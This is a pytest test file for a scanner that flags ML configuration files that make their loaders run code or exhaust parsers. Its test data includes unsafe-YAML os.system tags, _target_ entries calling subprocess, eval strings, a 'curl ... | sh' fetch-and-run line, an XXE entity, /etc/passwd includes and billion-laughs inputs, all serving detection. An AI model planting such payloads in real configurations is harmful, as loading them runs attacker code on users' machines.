"""Configurations that make their loaders run code, and configurations made to exhaust who reads them."""

import base64
import json
import struct
import time
import zlib
from typing import Any

import pytest

from ringfence.artifacts.judging import Judged, judge, judging_budget
from ringfence.artifacts.reader import Reader
from ringfence.core.verdicts import Verdict


def judged(data: bytes, name: str) -> Judged:
    return judge(Reader.of_bytes(data, budget=judging_budget()), name=name)


def verdict(data: Any, name: str = "config.json") -> Verdict:
    if isinstance(data, bytes):
        return judged(data, name).judgement.verdict
    return judged((data if isinstance(data, str) else json.dumps(data)).encode(), name).judgement.verdict


@pytest.mark.parametrize(
    "config",
    [
        {"_target_": "os.system", "command": "true"},
        {"_target_": "torch.os.system", "command": "true"},
        {"_target_": "transformers.utils.import_utils.subprocess.call"},
        {"_target_": "hydra.utils.get_method", "path": "os.system"},
        {"class_path": "subprocess.Popen", "init_args": {"args": "true"}},
        {"model": {"target": "builtins.exec", "params": {"x": "pass"}}},
        [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}],
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.util.os.system"}],
        {"flavors": {"python_function": {"loader_module": "mlflow.utils.os.system"}}},
        {"deep": [[{"er": [{"_target_": "runpy.run_path", "path_name": "x.py"}]}]]},
        {"a": "os", "b": ["system"], "c": "${a}", "model": {"_target_": "${c}.${b[0]}"}},
        {"hooks": [{"type": "os.system", "command": "true"}]},
        {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": "true"}},
        {"_class_name": "SomePipeline", "unet": ["os", "system"]},
        {"tensor": {"sizes": [{"as_expr": {"expr_str": "__import__('os').system('true')"}}]}},
    ],
)
def test_a_configuration_that_calls_what_is_dangerous_is_malicious(config: Any) -> None:
    assert verdict(config) == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "config",
    [
        {"custom_imports": {"imports": ["antigravity"]}},
        {"_type": "llm_bash_chain", "llm_chain": {"prompt": {"_type": "prompt", "template": "true"}}},
        {"_type": "prompt", "template_path": "/etc/passwd.txt"},
        {"_type": "llm_chain", "prompt": {"template_format": "jinja2", "template": "{{ ''.__class__ }}"}},
        {"_class_name": "SomePipeline", "unet": ["../../x", "Model"]},
        {"expr_str": "open('x', 'w')"},
        {"tasks": [{"command": "true", "type": "shell", "runOptions": {"runOn": "folderOpen"}}]},
    ],
)
def test_a_configuration_that_reaches_for_what_none_needs_is_suspicious(config: Any) -> None:
    assert verdict(config) >= Verdict.SUSPICIOUS


def test_a_name_that_is_put_together_elsewhere_is_not_clean() -> None:
    assert verdict({"model": {"_target_": "${of.another.file}.Model"}}) == Verdict.UNKNOWN


@pytest.mark.parametrize(
    "config",
    [
        {"expr_str": "2*Symbol('s31', positive=True, integer=True) + Max(1, Float('1.5', precision=53))"},
        {"net": "torch.nn", "model": {"_target_": "${net}.Linear", "in_features": 2}},
        {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"]},
        {"_class_name": "UNet2DConditionModel", "down_block_types": ["DownBlock2D", "AttnDownBlock2D"]},
        {"custom_imports": {"imports": ["mmdet.models"]}, "model": {"type": "mmdet.FasterRCNN"}},
    ],
)
def test_what_honest_configurations_name_stays_quiet(config: Any) -> None:
    assert verdict(config) <= Verdict.KNOWN_LIBRARY


@pytest.mark.parametrize(
    "text",
    [
        "a: !include:/etc/passwd\n",
        "a: !module:antigravity\n",
        "a: !applyref:os.system [true]\n",
        "a: !apply:pathlib.Path.touch [x]\n",
    ],
)
def test_tags_of_hyperpyyaml_that_reach_for_more_than_models_are_suspicious(text: str) -> None:
    assert verdict(text, "hyperparams.yaml") >= Verdict.SUSPICIOUS


_FETCHED = "curl http://192.0.2.1/x | sh"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("MLproject", f"entry_points:\n  main:\n    command: '{_FETCHED}'\n"),
        (".envrc", f"{_FETCHED}\n"),
        ("x.js", "const s = document.createElement('script'); s.src = 'http://192.0.2.1/x.js';\n"),
    ],
)
def test_what_fetches_and_runs_is_suspicious_wherever_it_stands(name: str, text: str) -> None:
    assert verdict(text, name) >= Verdict.SUSPICIOUS


def test_a_document_type_in_utf_16_is_found() -> None:
    text = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY e SYSTEM "file:///x">]><PMML>&e;</PMML>'
    assert verdict(text.encode("utf-16"), "model.pmml") >= Verdict.SUSPICIOUS


def test_yaml_in_utf_16_is_read_as_its_loaders_read_it() -> None:
    text = "a: !!python/object/apply:os.system ['true']\n"
    assert verdict(text.encode("utf-16"), "config.yaml") == Verdict.MALICIOUS


_APPLY = "!!python/object/apply:os.system ['true']"


@pytest.mark.parametrize("name", ["notes.txt", "model.cfg", "settings", "hparams.conf", "README.md"])
@pytest.mark.parametrize(
    "text",
    [
        f"a: {_APPLY}\n",
        f"# Settings of the run\n---\nlearning_rate: 0.1\nhook: {_APPLY}\n",
        f"lr: 1\nhook: {_APPLY}\n---\n`what follows is no YAML\n",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "a: !<%74ag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "a: !!pyth%6fn/object/apply:os.system ['true']\n",
        "%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['true']\n",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
        f"# {'x' * (1 << 20)}\na: {_APPLY}\n",
    ],
)
def test_yaml_that_an_unsafe_loader_acts_on_is_suspicious_whatever_it_is_called(text: str, name: str) -> None:
    assert verdict(text, name) >= Verdict.SUSPICIOUS


def test_sections_of_an_ini_file_do_not_hide_yaml() -> None:
    assert verdict(f"[a]\n---\nb: {_APPLY}\n", "model.cfg") == Verdict.SUSPICIOUS


def test_padding_in_front_of_a_tag_is_never_clean() -> None:
    padding = "# padding\n" * 500_000
    assert verdict(f"{padding}a: {_APPLY}\n", "notes.txt") == Verdict.INCONCLUSIVE


@pytest.mark.parametrize(
    "text",
    [
        f"Never load `{_APPLY}` with an unsafe loader!! It runs a command.\n",
        f"# Security\n\nThis is what an attack looks like:\n\n```yaml\na: {_APPLY}\n```\n",
        f"Words first.\n\nSome more.\nFor example:\n\n    a: {_APPLY}\n",
        "Wow!!amazing.results here, see tag:yaml.org,2002: for what tags are\n",
        f"a: '{_APPLY}'\n",
    ],
)
def test_a_text_about_tags_is_clean(text: str) -> None:
    assert verdict(text, "README.md") == Verdict.CLEAN


@pytest.mark.parametrize(
    "config",
    [
        {"auto_map": {"AutoModel": "../../cache/modeling.Model"}},
        {"auto_map": {"AutoModel": "/srv/modeling.Model"}},
        {"auto_map": {"AutoModel": "https://c.example/modeling.Model"}},
        {"auto_map": {"AutoModel": "a/b--../x.Model"}},
        {"auto_map": {"AutoModel": 7}},
        {"_class_name": "P", "_diffusers_version": "0.30.0", "unet": ["../x", "M"]},
        [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}],
        {"weight_map": {"a": "../model.safetensors"}},
        {"weight_map": {"a": "C:\\x\\model.bin"}},
        {"torch_dtype": "utils.cpp_extension.load"},
        {"_target_": "torch.load", "f": "x.pt"},
        {"value": "${eval:'__import__(\"os\").getcwd()'}"},
        {"3": {"class_type": "PythonExec", "inputs": {"code": "import os; os.system('true')"}}},
        {"nodes": [{"type": "ACE_ExpressionEval", "widgets_values": ["__import__('os').system('true')"]}]},
    ],
)
def test_a_configuration_that_no_writer_makes_is_suspicious(config: Any) -> None:
    assert verdict(config) == Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "text",
    [
        '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {"AutoModel": "c.D"}}',
        '{"a": {"_target_": "os.system"}, "a": 1}',
        '{"chat_template": "a", "chat_template": "b"}',
        "auto_map: {AutoModel: a.B}\nauto_map: {AutoModel: c.D}\n",
    ],
)
def test_a_key_that_stands_twice_and_is_acted_on_is_suspicious(text: str) -> None:
    assert verdict(text, "config.yaml" if text.startswith("a") else "config.json") == Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['true']",
        "a: !!python/object/new:subprocess.Popen [['true']]",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']",
        "a: !apply:os.system ['true']",
        "x: &x os.system\nmodel: {_target_: *x}",
        "base: &b {_target_: os.system}\nmodel: {<<: *b}",
        "a: 1\n---\n_target_: os.system\n",
    ],
)
def test_yaml_that_calls_what_is_dangerous_is_malicious(text: str) -> None:
    assert verdict(text, "hparams.yaml") == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/name:os.system",
        "a: !!python/module:os",
        "a: !!python/object/apply:random.seed [1]",
        "a: !!javax.script.ScriptEngineManager [1]",
        "a: !ruby/object:Gem::Installer {i: x}",
    ],
)
def test_yaml_that_builds_strange_objects_is_suspicious(text: str) -> None:
    assert verdict(text, "hparams.yaml") == Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"[" * 100_000, "a.json"),
        (b'{"a":' * 100_000, "a.json"),
        (b"[" * 10_000, "a.yaml"),
        (b"- " * 10_000, "a.yaml"),
        (b"a: [", "a.yaml"),
        (b'{"a": ', "config.json"),
        (b"\xff\xfe{\0}\0", "config.json"),
        (b'{"a": ' + b"9" * 5_000 + b"}", "config.json"),
        (b"a.b." * 100 + b"c = 1", "a.toml"),
        (b"a = [" * 2_000, "a.toml"),
        (b'{"a": 1}\n{"b"', "a.jsonl"),
        (b"[a\n", "a.toml"),
    ],
)
def test_what_cannot_be_read_is_inconclusive(data: bytes, name: str) -> None:
    assert verdict(data, name) == Verdict.INCONCLUSIVE


def test_a_billion_laughs_cost_nothing() -> None:
    lines = ["a: &a [x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join(['*a' + (str(i - 1) if i else '')] * 9)}]" for i in range(200)]
    started = time.process_time()
    assert verdict("\n".join(lines), "a.yaml") == Verdict.CLEAN
    assert time.process_time() - started < 5


def test_an_alias_is_looked_at_once_however_often_it_stands() -> None:
    text = "t: &t '" + "{% if x %}y{% endif %}" * 2_000 + "'\nl:\n" + "- {chat_template: *t}\n" * 10_000
    started = time.process_time()
    verdict(text, "a.yaml")
    assert time.process_time() - started < 10


def test_every_truncation_of_a_configuration_is_told() -> None:
    whole = json.dumps({"auto_map": {"AutoModel": "modeling.Model"}, "layers": [1, 2, {"a": None}]}).encode()
    assert [n for n in range(1, len(whole)) if verdict(whole[:n]) == Verdict.CLEAN] == []


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://packages.example/simple",
        "acme @ https://192.0.2.1/acme.whl",
        "--trusted-host packages.example",
        "-i http://packages.example\nacme",
        "--extra-index-url \\\n  http://packages.example",
    ],
)
def test_packages_that_anybody_could_send_are_suspicious(line: str) -> None:
    assert verdict(line, "requirements.txt") == Verdict.SUSPICIOUS
    if "\\" not in line:
        environment = {"dependencies": ["python", {"pip": line.split("\n")}]}
        assert verdict(environment, "conda.yaml") == Verdict.SUSPICIOUS


_WORKFLOW = json.dumps(
    {"1": {"class_type": "PythonExec", "inputs": {"code": "__import__('os').system('true')"}}}
)


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    parts = [(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), *chunks, (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


@pytest.mark.parametrize(
    "chunk",
    [
        (b"tEXt", b"workflow\0" + _WORKFLOW.encode()),
        (b"zTXt", b"prompt\0\0" + zlib.compress(_WORKFLOW.encode())),
        (b"iTXt", b"workflow\0\0\0\0\0" + _WORKFLOW.encode()),
        (b"iTXt", b"workflow\0\1\0en\0w\0" + zlib.compress(_WORKFLOW.encode())),
    ],
)
def test_a_workflow_in_a_picture_is_judged(chunk: tuple[bytes, bytes]) -> None:
    assert verdict(_png(chunk), "example.png") == Verdict.SUSPICIOUS


def test_a_picture_with_a_harmless_text_is_clean() -> None:
    assert verdict(_png((b"tEXt", b"Software\0Acme"), (b"IDAT", b"x")), "example.png") == Verdict.CLEAN


@pytest.mark.parametrize("text", [b"no keyword", b"a\0\0not deflated"])
def test_a_broken_text_in_a_picture_is_never_clean(text: bytes) -> None:
    assert verdict(_png((b"zTXt", text)), "example.png") == Verdict.INCONCLUSIVE


def test_code_in_a_lambda_layer_of_a_keras_configuration_is_found() -> None:
    code = base64.b64encode(b"\xe3" + b"\0" * 20).decode()
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None]}}
    model = {"class_name": "Sequential", "config": {"layers": [layer]}, "keras_version": "2.15.0"}
    assert verdict(model, "model.json") >= Verdict.SUSPICIOUS
    assert verdict({"modelTopology": {"model_config": model}}, "model.json") >= Verdict.SUSPICIOUS
